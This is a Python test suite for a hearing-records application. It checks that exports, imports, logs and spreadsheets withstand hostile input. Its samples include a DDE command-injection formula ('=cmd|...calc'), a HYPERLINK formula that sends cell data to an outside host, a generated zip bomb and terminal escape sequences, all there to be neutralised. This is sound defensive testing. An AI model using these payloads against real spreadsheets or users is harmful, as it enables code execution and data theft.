"""Hostile and careless input (issue 16): no command destroys a file, no cell runs a
formula, no log leaks a person. Each test names the item of the issue it covers."""
from __future__ import annotations

import copy
import errno
import hashlib
import json
import os
import stat
from pathlib import Path

import pytest

from tests.unit.test_cli import SAMPLE, run

HOSTILE = Path(__file__).resolve().parents[1] / "data" / "hostile"


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def demo(db_path) -> Path:
    run("demo", db=db_path, check_status=0)
    return db_path


# ------------------------------------------------------------------ 1. output paths

@pytest.mark.parametrize("option", ["--json", "--report", "--report-docx", "--transcript", "--summary"])
def test_no_export_writes_over_the_database(option, demo, tmp_path):
    before = _digest(demo)
    for target in (demo, Path(str(demo) + "-wal"), Path(str(demo) + "-journal")):
        proc = run("export", "1", option, target, db=demo)
        assert proc.returncode == 2, proc.stderr
        assert str(target) in proc.stderr and "数据库" in proc.stderr
    assert _digest(demo) == before
    assert not Path(str(demo) + "-wal").exists()


def test_a_link_to_the_database_is_the_database(demo, tmp_path):
    before = _digest(demo)
    hard = tmp_path / "elsewhere.json"
    os.link(demo, hard)
    soft = tmp_path / "other" / "report.pdf"
    soft.parent.mkdir()
    soft.symlink_to(demo)
    for target in (hard, soft):
        proc = run("export", "1", "--json", target, db=demo)
        assert proc.returncode == 2 and "数据库" in proc.stderr, proc.stderr
    assert _digest(demo) == before


def test_two_outputs_on_one_file_are_refused(demo, tmp_path):
    out = tmp_path / "x.pdf"
    proc = run("export", "1", "--report", out, "--transcript", tmp_path / "." / "x.pdf", db=demo)
    assert proc.returncode == 2 and "同一个文件" in proc.stderr, proc.stderr
    assert not out.exists()
    out.write_bytes(b"old")
    link = tmp_path / "y.pdf"
    os.link(out, link)
    proc = run("export", "1", "--report", out, "--transcript", link, db=demo)
    assert proc.returncode == 2 and out.read_bytes() == b"old"


def test_a_read_only_target_is_not_replaced(demo, tmp_path):
    out = tmp_path / "summary.xlsx"
    out.write_bytes(b"keep me")
    out.chmod(0o444)
    proc = run("export", "1", "--summary", out, "--json", tmp_path / "h.json", db=demo)
    assert proc.returncode == 2 and str(out) in proc.stderr and "只读" in proc.stderr
    assert out.read_bytes() == b"keep me" and not (tmp_path / "h.json").exists()


def test_a_folder_or_a_fifo_is_not_a_target(demo, tmp_path):
    proc = run("export", "1", "--json", tmp_path, db=demo)
    assert proc.returncode == 2 and "文件夹" in proc.stderr
    fifo = tmp_path / "pipe.json"
    os.mkfifo(fifo)
    proc = run("export", "1", "--json", fifo, db=demo)
    assert proc.returncode == 2 and "不是普通文件" in proc.stderr


def test_a_long_chinese_title_exports_the_transcript(db_path, tmp_path):
    """76+ Chinese characters: the old temporary name (the document's name plus a
    suffix) went over 255 bytes."""
    data = copy.deepcopy(SAMPLE)
    matter = "《" + "光明区公共数据授权运营暂行管理办法实施细则" * 4 + "（征求意见稿）》"
    data["hearing"]["matter"] = matter
    data["hearing"]["title"] = matter + "听证会"
    assert len(data["hearing"]["title"]) > 76
    src = tmp_path / "long.json"
    src.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    run("import", src, db=db_path, check_status=0)
    name = (matter.strip("《》") * 2)[:79] + "听证笔录.pdf"          # 253 bytes: a name the system allows
    assert len(name.encode()) <= 255 < len(name.encode()) + len(".hd-.tmp.pdf") + 8
    out = tmp_path / name
    proc = run("export", "1", "--transcript", out, "--report", tmp_path / name.replace("笔录", "报告"),
               db=db_path)
    assert proc.returncode == 0, proc.stderr
    assert out.stat().st_size > 1000
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


def test_a_failed_write_leaves_nothing_and_names_the_target(tmp_path):
    from hearing_desk.files import DiskFull, atomic_write

    target = tmp_path / "听证报告.pdf"

    def broken(tmp: Path) -> None:
        tmp.write_bytes(b"half a document with 13800138000")
        raise OSError(errno.EIO, "Input/output error", str(tmp))

    with pytest.raises(OSError) as caught:
        atomic_write(target, broken)
    assert caught.value.filename == str(target)
    assert list(tmp_path.iterdir()) == []

    def full(tmp: Path) -> None:
        tmp.write_bytes(b"half")
        raise OSError(errno.ENOSPC, "No space left on device", str(tmp))

    with pytest.raises(DiskFull) as told:
        atomic_write(target, full)
    assert str(target) in str(told.value) and "磁盘已满" in str(told.value)
    assert told.value.exit_status == 1
    assert list(tmp_path.iterdir()) == []


def test_a_replaced_file_keeps_its_mode_and_a_new_one_is_private(tmp_path):
    from hearing_desk.files import atomic_write_bytes

    kept = tmp_path / "kept.json"
    kept.write_bytes(b"{}")
    kept.chmod(0o640)
    atomic_write_bytes(kept, b"[]")
    assert stat.S_IMODE(kept.stat().st_mode) == 0o640 and kept.read_bytes() == b"[]"
    new = tmp_path / "new" / "folder" / "x.json"
    atomic_write_bytes(new, b"[]")
    assert stat.S_IMODE(new.stat().st_mode) == 0o600
    assert stat.S_IMODE(new.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE(new.parent.parent.stat().st_mode) == 0o700


# ------------------------------------------------------------------ 2. spreadsheets

FORMULAS = ['=HYPERLINK("http://example.invalid/?"&C3,"点此核对")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(A1:A9)"]


def test_summary_text_is_never_a_formula(sample_hearing, tmp_path):
    import zipfile

    import openpyxl

    from hearing_desk.domain import Role
    from hearing_desk.export.summary_xlsx import write_summary_xlsx

    h = sample_hearing
    person = next(p for p in h.people if p.role is Role.PARTICIPANT and any(o.speaker == p.id for o in h.opinions))
    person.name = FORMULAS[0]
    person.description = FORMULAS[1]
    opinion = next(o for o in h.opinions if o.speaker == person.id)
    opinion.text, opinion.basis = FORMULAS[2], FORMULAS[3]
    opinion.articles = [FORMULAS[4]]
    out = tmp_path / "summary.xlsx"
    write_summary_xlsx(h, out)
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, name
    wb = openpyxl.load_workbook(out)
    found = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in FORMULAS:
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    assert cell.quotePrefix, cell.coordinate
                    found[cell.value] = cell.coordinate
    assert set(found) == set(FORMULAS)


def test_a_cell_over_excels_limit_is_cut_with_a_note_and_a_warning(sample_hearing, tmp_path):
    import openpyxl

    from hearing_desk.export import export_documents
    from hearing_desk.export.summary_xlsx import CELL_LIMIT, CUT_NOTE

    opinion = sample_hearing.opinions[0]
    opinion.text = "意" * 40000 + "尾"
    out = tmp_path / "summary.xlsx"
    warnings = export_documents(sample_hearing, summary_xlsx=out)
    assert any("32767" in w and "意见或建议" in w for w in warnings), warnings
    ws = openpyxl.load_workbook(out).active
    texts = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("意意")]
    assert len(texts) == 1 and len(texts[0]) <= CELL_LIMIT and texts[0].endswith(CUT_NOTE)


def test_signup_sheet_warns_of_formula_date_and_number_names():
    from hearing_desk.formats.signup import read_signup

    sheet = read_signup(HOSTILE / "signup-formulas.xlsx")
    told = {r.row: r.problem_text() for r in sheet.rows}
    for row in (2, 3, 4, 5):
        assert f"第 {row} 行 B 列" in told[row] and "公式" in told[row], told[row]
    assert "日期" in told[7] and "第 7 行 B 列" in told[7]
    assert "数字" in told[8]
    assert "日期" in told[9]
    assert told[6] == ""                        # 王五 is a name
    assert all(r.ok for r in sheet.rows if r.row != 7 or r.name)   # warnings, not errors


# ------------------------------------------------------------------ 3. logs, messages, file modes

PERSONAL = "张三 13800138000"


def test_a_failed_statement_carries_no_parameters(db):
    from sqlalchemy import text
    from sqlalchemy.exc import OperationalError

    from hearing_desk.errors import describe_failure

    with pytest.raises(OperationalError) as caught, db.engine.connect() as conn:
        conn.execute(text("SELECT no_such_column FROM hearing WHERE title = :t"), {"t": PERSONAL})
    assert "13800138000" not in str(caught.value)
    told = describe_failure(caught.value)
    assert "13800138000" not in told and "SELECT" not in told and "no such column" in told


def test_a_failed_autosave_logs_and_shows_no_typed_text(caplog):
    import sqlite3
    import threading

    from sqlalchemy.exc import OperationalError

    from hearing_desk.domain import Turn
    from hearing_desk.services.writer import TranscriptWriter

    class Locked:
        calls = 0

        def save_draft(self, hearing_id, turn):
            Locked.calls += 1
            raise OperationalError("UPDATE turn SET text=? WHERE id=?", (turn.text, 1),
                                   sqlite3.OperationalError("database is locked"))

    shown: list[str] = []
    failed = threading.Event()

    def on_error(exc):
        from hearing_desk.errors import describe_failure
        shown.append(describe_failure(exc))
        failed.set()

    writer = TranscriptWriter(Locked(), on_error=on_error, pending_file=None)  # type: ignore[arg-type]
    with caplog.at_level("WARNING"):
        writer.save_draft(1, Turn(seq=1, text=PERSONAL))
        assert failed.wait(10)
        writer.close(timeout=0.1)
    assert "13800138000" not in caplog.text and "UPDATE" not in caplog.text
    assert "database is locked" in caplog.text
    assert shown and all("13800138000" not in s and "UPDATE" not in s for s in shown)


def test_passwords_in_database_urls_are_never_shown(tmp_path, caplog):
    from hearing_desk.errors import HearingDeskError
    from hearing_desk.storage.database import Database, redact_url

    url = "postgresql+nosuchdriver://clerk:s3cret-pw@db.example.invalid/hearings"
    assert "s3cret-pw" not in str(redact_url(url)) and "db.example.invalid" in str(redact_url(url))
    assert "s3cret-pw" not in str(redact_url("postgresql://clerk:s3cret-pw@[bad/x"))
    with pytest.raises(HearingDeskError) as caught:
        Database(url)
    assert "s3cret-pw" not in str(caught.value) and "驱动" in str(caught.value)
    proc = run("list", db=url)
    assert proc.returncode == 1 and "s3cret-pw" not in proc.stderr and "驱动" in proc.stderr


def test_database_log_backups_and_folders_are_private(tmp_path, monkeypatch):
    import logging

    from hearing_desk import app, paths
    from hearing_desk.services.backups import make_backup
    from hearing_desk.storage.database import Database

    monkeypatch.setenv("HEARING_DESK_DATA_DIR", str(tmp_path / "new" / "data"))
    folder = paths.user_data_dir()
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert stat.S_IMODE(folder.parent.stat().st_mode) == 0o700
    path = folder / "h.sqlite3"
    db = Database(str(path))
    try:
        from hearing_desk.services.hearings import HearingService
        HearingService(db).add_demo()
        for f in (path, Path(str(path) + "-wal"), Path(str(path) + "-shm")):
            if f.exists():
                assert stat.S_IMODE(f.stat().st_mode) == 0o600, f
    finally:
        db.close()
    info = make_backup(path, reason="manual")
    assert stat.S_IMODE(info.path.stat().st_mode) == 0o600
    assert stat.S_IMODE(info.path.parent.stat().st_mode) == 0o700
    root = logging.getLogger()
    before = list(root.handlers)
    try:
        log = app.setup_logging()
        assert log is not None
        logging.getLogger("hearing_desk").warning("a line")
        assert stat.S_IMODE(log.stat().st_mode) == 0o600
    finally:
        for handler in root.handlers[:]:
            if handler not in before:
                root.removeHandler(handler)
                handler.close()


# ------------------------------------------------------------------ 4. personal data in free text

def _with_personal_data(data: dict) -> dict:
    data = copy.deepcopy(data)
    person = next(p for p in data["people"] if p["role"] == "participant")
    person["description"] = (person.get("description") or "") + "，联系电话13812341234"
    data["opinions"][0]["basis"] = "本人身份证号11010519491231002X，邮箱zhang.san@example.cn"
    return data


def test_personal_data_is_found_masked_and_named():
    from hearing_desk.domain.personal import find, mask_text

    text = "电话13812341234、0755-12345678，身份证11010519491231002X，zhang.san@example.cn；编号123456789012345678"
    kinds = [m.kind for m in find(text)]
    assert kinds == ["mobile", "landline", "id_number", "email"]       # a bad check digit is not an ID number
    assert mask_text(text) == ("电话138****1234、0755-****5678，身份证110105********002X，z***@example.cn；"
                               "编号123456789012345678")


def test_personal_data_procedure_check_names_the_place(sample_hearing):
    from hearing_desk.domain.personal import scan_hearing
    from hearing_desk.services.checks import PERSONAL_DATA, run_checks

    sample_hearing.opinions[1].basis = "联系我：13812341234"
    assert [f.place for f in scan_hearing(sample_hearing)]
    checks = [c for c in run_checks(sample_hearing) if c.kind == PERSONAL_DATA]
    assert len(checks) == 1 and "依据理由" in checks[0].message_zh and "138****1234" in checks[0].message_zh
    assert "13812341234" not in checks[0].message_zh
    assert checks[0].target.tab == "opinions" and checks[0].target.opinion_id == sample_hearing.opinions[1].id
    assert checks[0].is_warning


def test_personal_data_export_warns_and_masks_with_the_option(db_path, tmp_path):
    import openpyxl

    src = tmp_path / "h.json"
    src.write_text(json.dumps(_with_personal_data(SAMPLE), ensure_ascii=False), encoding="utf-8")
    run("import", src, db=db_path, check_status=0)
    plain = run("export", "1", "--summary", tmp_path / "plain.xlsx", db=db_path, check_status=0)
    assert "个人信息" in plain.stderr and "依据理由（身份证号）" in plain.stderr
    assert "--mask-personal-data" in plain.stderr
    assert "13812341234" not in plain.stderr and "11010519491231002X" not in plain.stderr
    masked = run("export", "1", "--summary", tmp_path / "masked.xlsx", "--report-docx", tmp_path / "r.docx",
                 "--mask-personal-data", db=db_path, check_status=0)
    assert "--mask-personal-data" not in masked.stderr

    def cells(path):
        return " ".join(str(c.value) for row in openpyxl.load_workbook(path).active.iter_rows() for c in row)

    assert "13812341234" in cells(tmp_path / "plain.xlsx")
    text = cells(tmp_path / "masked.xlsx")
    assert "13812341234" not in text and "138****1234" in text and "110105********002X" in text
    import docx
    body = "\n".join(p.text for p in docx.Document(str(tmp_path / "r.docx")).paragraphs)
    assert "13812341234" not in body
    out = tmp_path / "nopd.json"
    proc = run("export", "1", "--json", out, "--no-personal-data", db=db_path, check_status=0)
    assert "自由文本中仍有个人信息" in proc.stderr


# ------------------------------------------------------------------ 5. autosave under a foreign write lock

def test_writes_refused_by_the_database_wait_in_a_side_file(db, tmp_path):
    import sqlite3
    import threading
    import time

    from sqlalchemy.exc import OperationalError

    from hearing_desk.domain import Turn
    from hearing_desk.services.hearings import HearingService
    from hearing_desk.services.transcript import TranscriptService
    from hearing_desk.services.writer import TranscriptWriter, apply_pending, pending_file_of

    hid = HearingService(db).add_demo()
    real = TranscriptService(db)
    locked = threading.Event()
    locked.set()

    class Foreign(TranscriptService):      # another program holds the write lock while ``locked``
        def _refuse(self):
            if locked.is_set():
                raise OperationalError("UPDATE turn …", None, sqlite3.OperationalError("database is locked"))

        def save_draft(self, hearing_id, turn):
            self._refuse()
            super().save_draft(hearing_id, turn)

        def append_turn(self, hearing_id, turn, draft):
            self._refuse()
            super().append_turn(hearing_id, turn, draft)

    side = pending_file_of(db.path)
    assert side is not None
    writer = TranscriptWriter(Foreign(db), pending_file=side)
    writer.RETRY_SECONDS = 0.05
    try:
        writer.append(hid, Turn(seq=1, text="主持人宣布听证会开始。", speaker="host"), Turn(seq=2, text=""))
        writer.save_draft(hid, Turn(seq=2, text="第一段未完", speaker="presenter"))
        end = time.monotonic() + 10
        while time.monotonic() < end and "第一段未完" not in (side.read_text("utf-8") if side.exists() else ""):
            time.sleep(0.02)
        kept = json.loads(side.read_text("utf-8"))
        assert [o["kind"] for o in kept["ops"]] == ["append", "draft"]
        assert stat.S_IMODE(side.stat().st_mode) == 0o600
        writer.save_draft(hid, Turn(seq=2, text="第一段未完，继续输入", speaker="presenter"))
        assert "继续输入" in side.read_text("utf-8")          # at once, not after the next attempt
        copy_of_side = side.read_bytes()                       # what a kill -9 now would leave
        locked.clear()                                          # the other program lets go
        assert writer.flush(10)
        assert not side.exists()
        assert real.draft(hid).text == "第一段未完，继续输入"
    finally:
        writer.close(1)
    # a kill after the writes landed but before the file went: applied again, nothing doubled
    side.write_bytes(copy_of_side)
    assert apply_pending(real) == 2 and not side.exists()      # the append and the (merged) draft
    hearing = real.load(hid).hearing
    assert [t.text for t in hearing.transcript] == ["主持人宣布听证会开始。"]
    assert real.draft(hid).text == "第一段未完，继续输入"


def test_an_unreadable_side_file_is_kept_aside(db):
    from hearing_desk.services.transcript import TranscriptService
    from hearing_desk.services.writer import apply_pending, pending_file_of

    side = pending_file_of(db.path)
    assert side is not None
    side.write_text("{not json", encoding="utf-8")
    assert apply_pending(TranscriptService(db)) == 0
    assert not side.exists() and side.with_name(side.name + ".unreadable").exists()


# ------------------------------------------------------------------ 6. only our databases are changed

def test_a_foreign_sqlite_file_is_refused_untouched(tmp_path):
    import sqlite3

    path = tmp_path / "music.db"
    con = sqlite3.connect(path)
    con.execute("CREATE TABLE songs (title TEXT)")
    con.execute("INSERT INTO songs VALUES ('x')")
    con.commit()
    con.close()
    before = _digest(path)
    for args in (("import", Path(__file__).resolve().parents[2] / "resources/sample/guangming-public-data.json"),
                 ("demo",), ("list",)):
        proc = run(*args, db=path)
        assert proc.returncode == 1 and "不是 Hearing Desk 的数据库" in proc.stderr, proc.stderr
    assert _digest(path) == before
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("music")) == ["music.db"]


def test_a_newer_database_is_refused_before_it_is_switched_to_wal(demo, tmp_path):
    import sqlite3

    con = sqlite3.connect(demo)
    con.execute("PRAGMA journal_mode=DELETE")
    con.execute("UPDATE alembic_version SET version_num = '9999'")
    con.commit()
    con.close()
    before = _digest(demo)
    for args in (("list",), ("demo",), ("export", "1", "--json", tmp_path / "x.json")):
        proc = run(*args, db=demo)
        assert proc.returncode == 1 and "更新版本" in proc.stderr and "9999" in proc.stderr, proc.stderr
    assert _digest(demo) == before
    assert not Path(str(demo) + "-wal").exists() and not Path(str(demo) + "-shm").exists()


def test_a_migration_that_fails_half_way_leaves_the_file_as_it_was(tmp_path, monkeypatch):
    import sqlite3

    from alembic import command
    from alembic.config import Config
    from sqlalchemy import event
    from sqlalchemy.engine import Engine

    from hearing_desk.paths import migrations_dir
    from hearing_desk.storage.database import Database

    path = tmp_path / "old.sqlite3"
    old = Database(str(path), migrate=False)
    cfg = Config()
    cfg.set_main_option("script_location", str(migrations_dir()))
    with old.engine.begin() as conn:
        cfg.attributes["connection"] = conn
        command.upgrade(cfg, "0002")
    old.close()

    def schema():
        con = sqlite3.connect(path)
        try:
            return (con.execute("SELECT version_num FROM alembic_version").fetchall(),
                    sorted(con.execute("SELECT type, name, sql FROM sqlite_master").fetchall()))
        finally:
            con.close()

    before = schema()

    def fail_half_way(conn, cursor, statement, parameters, context, executemany):
        if statement.startswith("ALTER TABLE turn ADD COLUMN"):     # after CREATE TABLE recording
            raise RuntimeError("the power goes")

    event.listen(Engine, "before_cursor_execute", fail_half_way)
    try:
        with pytest.raises(RuntimeError):
            Database(str(path))
    finally:
        event.remove(Engine, "before_cursor_execute", fail_half_way)
    assert schema() == before
    assert before[0] == [("0002",)] and not any(name == "recording" for _t, name, _s in before[1])
    db = Database(str(path))              # and it migrates whole the next time
    db.close()
    from hearing_desk.storage.database import SCHEMA_HEAD
    assert schema()[0] == [(SCHEMA_HEAD,)]


def test_a_database_with_a_damaged_page_is_refused_for_import(demo):
    import sqlite3

    con = sqlite3.connect(demo)
    con.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    size = con.execute("PRAGMA page_size").fetchone()[0]
    root = con.execute("SELECT rootpage FROM sqlite_master WHERE name = 'opinion'").fetchone()[0]
    con.close()
    with open(demo, "r+b") as fh:
        fh.seek((root - 1) * size + 8)
        fh.write(b"\xff" * 64)
    before = _digest(demo)
    proc = run("import", Path(__file__).resolve().parents[2] / "resources/sample/guangming-public-data.json",
               db=demo)
    assert proc.returncode == 1 and "已损坏" in proc.stderr and "未作任何改动" in proc.stderr
    assert _digest(demo) == before
    assert proc.stderr.count("\n") < 8          # SQLite's findings, shortened


# ------------------------------------------------------------------ 8. bad input: exit 2 naming the place

@pytest.mark.parametrize(("name", "place", "words"), [
    ("duplicate-key.json", "hearing", "出现了两次"),
    ("big-integer.json", "people[0].seq", "超出范围"),
    ("long-integer.json", "people[0].seq", "5000 位"),
    ("e308.json", "people[0].seq", "不是可以保存的整数"),
    ("nan.json", "people[0].seq", "NaN"),
    ("lone-surrogate.json", "opinions[0].text", "代理码位"),
    ("nul-title.json", "hearing.title", "不能为空"),
])
def test_hostile_hearing_files_are_refused_naming_the_place(name, place, words, db_path):
    for command in (("import", HOSTILE / name), ("verify", HOSTILE / name, "866C-0571-B40A-9656")):
        proc = run(*command, db=db_path)
        assert proc.returncode == 2, proc.stderr
        assert place in proc.stderr and words in proc.stderr, proc.stderr
        assert "内部错误" not in proc.stderr


def test_deep_nesting_is_refused(db_path, tmp_path):
    for depth in (40, 200_000):
        deep = tmp_path / f"deep{depth}.json"
        deep.write_text('{"format": "hearing-desk/1", "x": ' + "[" * depth + "]" * depth + "}", encoding="utf-8")
        proc = run("import", deep, db=db_path)
        assert proc.returncode == 2 and "嵌套层数过深" in proc.stderr, proc.stderr


def test_devices_fifos_folders_and_huge_files_are_refused_without_blocking(db_path, tmp_path):
    fifo = tmp_path / "pipe.json"
    os.mkfifo(fifo)
    huge = tmp_path / "huge.json"
    with open(huge, "wb") as fh:                 # sparse: 65 MB on paper, nothing on the disk
        fh.truncate(65 * 1024 * 1024)
    for target, words in (("/dev/zero", "不是普通文件"), (fifo, "不是普通文件"), (tmp_path, "文件夹"),
                          (huge, "太大")):
        proc = run("import", target, db=db_path)
        assert proc.returncode == 2 and words in proc.stderr and str(Path(target).name) in proc.stderr, proc.stderr
    from hearing_desk.errors import BadInput
    from hearing_desk.formats.drafts import read_draft
    from hearing_desk.formats.signup import read_signup
    for reader in (read_signup, read_draft):
        for target in ("/dev/zero", fifo):
            with pytest.raises(BadInput, match="不是普通文件"):
                reader(target)


@pytest.mark.parametrize("name", ["entity-bomb.xlsx", "malformed.xlsx", "entity-bomb.docx", "malformed.docx"])
def test_bad_xml_in_sheets_and_drafts_is_refused(name):
    from hearing_desk.errors import BadInput
    from hearing_desk.formats.drafts import read_draft
    from hearing_desk.formats.signup import read_signup

    reader = read_signup if name.endswith(".xlsx") else read_draft
    with pytest.raises(BadInput) as caught:
        reader(HOSTILE / name)
    assert name in str(caught.value) and "XML" in str(caught.value)


def test_openpyxl_reads_xml_through_defusedxml():
    from hearing_desk.formats.safety import defused

    assert defused()


def test_a_zip_bomb_is_refused_before_its_xml_is_read(tmp_path):
    import zipfile

    from hearing_desk.errors import BadInput
    from hearing_desk.formats.signup import read_signup

    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(HOSTILE / "signup-formulas.xlsx") as zin, \
            zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, zin.read(info.filename))
        with zout.open("xl/media/padding.bin", "w") as fh:
            block = b"\0" * (1024 * 1024)
            for _ in range(300):
                fh.write(block)
    assert bomb.stat().st_size < 2 * 1024 * 1024
    with pytest.raises(BadInput, match="解压后"):
        read_signup(bomb)


def test_a_sheet_claiming_the_whole_grid_reads_in_little_memory(tmp_path):
    """A sheet whose <dimension> claims A1:XFD1048576 (16,384 columns): read as the rows
    it has, never padded to the claim."""
    import re
    import tracemalloc
    import zipfile

    from openpyxl import Workbook

    from hearing_desk.formats.signup import read_signup

    wb = Workbook()
    ws = wb.active
    ws.append(["姓名", "工作单位"])
    for i in range(2000):
        ws.append([f"参加人{i}", "光明区"])
    plain = tmp_path / "plain.xlsx"
    wb.save(plain)
    claims = tmp_path / "claims.xlsx"
    with zipfile.ZipFile(plain) as zin, zipfile.ZipFile(claims, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', data)
            zout.writestr(info.filename, data)
    tracemalloc.start()
    try:
        sheet = read_signup(claims)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert len(sheet.rows) == 2000
    assert peak < 60 * 1024 * 1024, f"{peak / 1024 / 1024:.0f} MB"
    small = read_signup(HOSTILE / "claims-whole-sheet.xlsx")
    assert [r.name for r in small.rows][:1] and len(small.rows) < 20


def test_a_sheet_with_too_many_rows_or_too_long_a_name_is_refused(tmp_path):
    from openpyxl import Workbook

    from hearing_desk.errors import BadInput
    from hearing_desk.formats import signup

    wb = Workbook()
    ws = wb.active
    ws.append(["姓名", "工作单位"])
    ws.append(["张" * 5000, "光明区"])
    ws.append(["李四", "单" * 50_000])
    path = tmp_path / "long.xlsx"
    wb.save(path)
    sheet = signup.read_signup(path)
    assert [r.ok for r in sheet.rows] == [False, False]
    assert "姓名太长" in sheet.rows[0].problem_text() and "工作单位太长" in sheet.rows[1].problem_text()
    assert len(sheet.rows[1].affiliation or "") <= signup.MAX_CELL
    for i in range(signup.MAX_ROWS + 5):
        ws.append([f"人{i}", "光明区"])
    wb.save(path)
    with pytest.raises(BadInput, match="超过 10000 行"):
        signup.read_signup(path)


def test_a_locked_database_and_a_full_disk_are_the_environment(demo, tmp_path, monkeypatch):
    import sqlite3

    from hearing_desk.storage import database

    monkeypatch.setattr(database, "BUSY_TIMEOUT_MS", 200)
    con = sqlite3.connect(demo, isolation_level=None, check_same_thread=False)
    con.execute("BEGIN IMMEDIATE")
    try:
        proc = run("import", Path(__file__).resolve().parents[2] / "resources/sample/guangming-public-data.json",
                   db=demo)
    finally:
        con.execute("ROLLBACK")
        con.close()
    assert proc.returncode == 1 and "被另一个程序写入" in proc.stderr and "内部错误" not in proc.stderr, proc.stderr

    from sqlalchemy.exc import OperationalError

    from hearing_desk.services import hearings

    def full(*args, **kwargs):
        raise OperationalError("INSERT …", None, sqlite3.OperationalError("database or disk is full"))

    monkeypatch.setattr(hearings.HearingService, "add_demo", full)
    proc = run("demo", db=demo)
    assert proc.returncode == 1 and "磁盘已满" in proc.stderr and "INSERT" not in proc.stderr


def test_list_prints_control_characters_escaped(db_path):
    from sqlalchemy import text

    from hearing_desk.domain import Hearing
    from hearing_desk.errors import BadInput
    from hearing_desk.services.hearings import HearingService
    from hearing_desk.storage.database import Database

    db = Database(str(db_path))
    try:
        hid = HearingService(db).create("听证会")
        with db.engine.begin() as conn:          # as an older version or another program may have stored it
            conn.execute(text("UPDATE hearing SET title = :t WHERE id = :i"),
                         {"t": "听证会\x1b[2J\u202e反转\x00　全角", "i": hid})
        with pytest.raises(BadInput, match="不能为空"):
            HearingService(db).add(Hearing(title="\x00\x00"))        # a NUL-only title is empty
    finally:
        db.close()
    out = run("list", db=db_path, check_status=0).stdout
    assert out == f"{hid}\t听证会\\x1b[2J\\u202e反转\\x00　全角\n"


# ------------------------------------------------------------------ 9. denial of service

def test_a_megabyte_opinion_is_refused_by_the_documents_naming_it(sample_hearing, tmp_path):
    from hearing_desk.errors import BadInput
    from hearing_desk.export import export_documents

    sample_hearing.opinions[0].text = "意" * 340_000              # 1 MB of UTF-8
    for target in ("report_pdf", "report_docx"):
        with pytest.raises(BadInput) as caught:
            export_documents(sample_hearing, **{target: tmp_path / "r"})
        assert "的第1条意见（340000 字" in str(caught.value) and "未导出" in str(caught.value)
    assert list(tmp_path.iterdir()) == []
    export_documents(sample_hearing, summary_xlsx=tmp_path / "s.xlsx")     # the summary cuts the cell instead
    assert (tmp_path / "s.xlsx").exists()


def test_add_people_keeps_roles_together_and_numbers_in_order(db):
    from hearing_desk.domain import Person, Role
    from hearing_desk.services.hearings import HearingService
    from hearing_desk.services.people import PeopleService

    hid = HearingService(db).add_demo()
    before = HearingService(db).get(hid)
    last = max(p.seq or 0 for p in before.people_in(Role.PARTICIPANT))
    mixed = [Person(id="", role=Role.PARTICIPANT, name=f"新参加人{i}") for i in range(3)]
    mixed.insert(1, Person(id="", role=Role.OBSERVER, name="旁听者甲"))
    added = PeopleService(db).add_people(hid, mixed)
    assert len({p.id for p in added}) == 4 and not {p.id for p in added} & {p.id for p in before.people}
    after = HearingService(db).get(hid)
    participants = after.people_in(Role.PARTICIPANT)
    assert [p.name for p in participants][-3:] == ["新参加人0", "新参加人1", "新参加人2"]
    assert [p.seq for p in participants][-3:] == [last + 1, last + 2, last + 3]
    roles = [p.role for p in after.people]
    assert all(roles.index(r) + roles.count(r) - 1 == len(roles) - 1 - roles[::-1].index(r) for r in set(roles))


# ------------------------------------------------------------------ 10. the one-window lock by inode

def test_one_window_per_file_through_a_hard_link_or_a_symlink(demo, tmp_path):
    from hearing_desk.errors import DatabaseInUse
    from hearing_desk.storage.database import Database

    other = tmp_path / "elsewhere"
    other.mkdir()
    hard = other / "same-file.sqlite3"
    os.link(demo, hard)
    soft = other / "link.sqlite3"
    soft.symlink_to(demo)
    window = Database(str(demo))
    window.lock_exclusive()
    try:
        for name in (hard, soft):
            second = Database(str(name))
            try:
                with pytest.raises(DatabaseInUse, match="已在另一个 Hearing Desk 窗口中打开"):
                    second.lock_exclusive()
            finally:
                second.close()
        proc = run("demo", db=hard)
        assert proc.returncode == 1 and "硬链接" in proc.stderr, proc.stderr
    finally:
        window.close()
    again = Database(str(hard))              # free once the window closed
    again.lock_exclusive()
    again.close()


def test_temporary_files_a_kill_left_are_removed_at_the_next_write(tmp_path):
    import time

    from hearing_desk.files import atomic_write_bytes

    old = tmp_path / ".hd-k3j2x9ab.tmp"
    old.write_text("半份文件 13812341234", encoding="utf-8")
    hour_ago = time.time() - 7200
    os.utime(old, (hour_ago, hour_ago))
    fresh = tmp_path / ".hd-zz99yy88.tmp"           # another program's write in progress
    fresh.write_text("…", encoding="utf-8")
    atomic_write_bytes(tmp_path / "x.json", b"{}")
    assert not old.exists() and fresh.exists()


def test_the_unfinished_turn_warning_masks_personal_data():
    from hearing_desk.services.documents import unfinished_turn_warning

    told = unfinished_turn_warning(7, "我的电话是13812341234，请回电")
    assert "13812341234" not in told and "138****1234" in told and "第 7 段" in told


def test_backup_to_a_link_of_the_database_or_a_read_only_file_is_refused(demo, tmp_path):
    before = _digest(demo)
    hard = tmp_path / "backup-here.sqlite3"
    os.link(demo, hard)
    proc = run("backup", "--to", hard, db=demo)
    assert proc.returncode == 2 and "数据库本身" in proc.stderr, proc.stderr
